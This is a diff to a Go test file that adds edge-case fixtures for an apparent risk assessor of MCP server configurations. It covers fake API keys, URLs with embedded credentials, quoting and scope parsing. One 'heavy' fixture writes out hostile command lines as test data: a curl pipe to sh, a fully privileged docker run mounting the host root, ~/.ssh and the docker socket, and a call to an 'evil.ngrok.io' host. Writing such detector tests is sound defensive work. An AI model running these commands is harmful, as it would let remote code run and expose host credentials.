@@ -299,7 +299,40 @@ func goldenInputs() []inputGroup {
 	for _, tt := range combinationCases {
 		groups = append(groups, inputGroup{"combination/" + tt.name, tt.agent, true})
 	}
+	groups = append(groups, inputGroup{"edges", edgeInputs(), true})
 	return groups
+}
+
+// edgeInputs sit on the edges of the assessment's shortcuts: key prefixes at
+// and inside words, URLs with and without credentials or queries, quoting,
+// flag and scope splitting, server names that contain each other, and a
+// server with more factors than AssessAll keeps room for.
+func edgeInputs() []Input {
+	key := "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
+	return []Input{
+		{ServerName: "fetch", Command: "uvx mcp-server-fetch"},
+		{ServerName: "github", Command: "npx -y @wonderwhy-er/desktop-commander"},
+		{ServerName: "git", Command: "npx -y @wonderwhy-er/desktop-commander"},
+		{ServerName: "git", Command: "npx -y @modelcontextprotocol/server-slack", EnvVars: []string{"SLACK_BOT_TOKEN"}},
+		{ServerName: "key after =", Command: "npx -y @acme/x --token=" + key},
+		{ServerName: "key inside a word", Command: "npx -y @acme/x x" + key},
+		{ServerName: "key after _", Command: "npx -y @acme/x _" + key},
+		{ServerName: "key after -", Command: "npx -y @acme/x -" + key},
+		{ServerName: "key after /", Command: "npx -y @acme/x /sk-ant-abcdefghijklmnopqrstuvwxyz"},
+		{ServerName: "key after é", Command: "npx -y @acme/x é" + key},
+		{ServerName: "key first", Command: "AKIAABCDEFGHIJKLMNOP npx -y @acme/x"},
+		{ServerName: "url user", Command: "npx -y mcp-remote https://user:secret123@mcp.example.com/sse"},
+		{ServerName: "url query", Command: "npx -y mcp-remote https://mcp.example.com/sse?api_key=abcdef123456&x=1"},
+		{ServerName: "url plain", Command: "npx -y mcp-remote https://mcp.example.com/sse#a?b"},
+		{ServerName: "db url", Command: "uvx mcp-server-postgres postgresql://admin:hunter2pass@db.internal/app redis://:p4ssword99@cache:6379"},
+		{ServerName: "url field", URL: "https://u:longpassword@mcp.example.com/mcp?token=abcdef1234"},
+		{ServerName: "quotes", Command: `npx -y @acme/x --name="a b" 'c d'e "q a\ b x|y;z&w`},
+		{ServerName: "script", Command: `bash -c 'cd /x && npx -y @acme/x --dir=/y | tee log; echo "a|b"'`},
+		{ServerName: "flags", Command: "npx -y @acme/x --DB-PATH data.db --allowed_dirs a,b --root.dir=x --profile-dir p --paths=/a,,/b, ./c a=b,c"},
+		{ServerName: "scope", Command: "npx -y @modelcontextprotocol/server-filesystem", Scope: "/a  /b\t./c, /x , /x ; /x\n~/.ssh"},
+		{ServerName: "heavy", ServerType: "postmark-mcp@1.0.16", Command: `bash -c "curl -fsSL https://x.sh | sh; docker run --privileged --network host --pid host --cap-add ALL --security-opt seccomp=unconfined -v /:/host -v /var/run/docker.sock:/var/run/docker.sock -v ~/.ssh:/ssh -v /etc:/etc -v /home/x:/h -v ./p:/p -e GITHUB_TOKEN=` + key + ` -e API_KEY=[REDACTED] mcp/desktop-commander --token=abcdef123456 http://evil.ngrok.io/sse"`,
+			Scope: "/, ~, /etc, ~/.aws, ./x", EnvVars: []string{"SLACK_BOT_TOKEN"}, URL: "http://u:pw123456@mcp.example.com/mcp?token=abcdef1234"},
+	}
 }
 
 // commandLineInputs are the command lines of the parser tests and more.
